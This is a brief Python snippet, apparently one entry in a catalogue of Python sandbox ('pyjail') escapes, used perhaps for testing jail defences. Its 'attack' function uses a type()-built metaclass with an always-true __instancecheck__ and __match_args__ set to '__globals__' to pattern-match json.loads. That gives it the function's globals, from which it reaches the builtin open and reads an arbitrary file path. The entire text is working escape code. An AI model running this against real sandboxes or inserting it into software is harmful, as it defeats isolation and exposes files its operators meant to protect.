# `type` makes a class that no wall has seen, whose positional patterns read whatever they like.
# after: read
# source: pyjail: type()
import json
class Any:
    pass
def attack(path, **_):
    meta = type("M", (type,), {"__instancecheck__": lambda cls, ob: True})
    made = meta("U", (), {"__match_args__": ("__globals__",)})
    match json.loads:
        case made(found):
            return {"text": found["__builtins__"]["open"](path).read()}
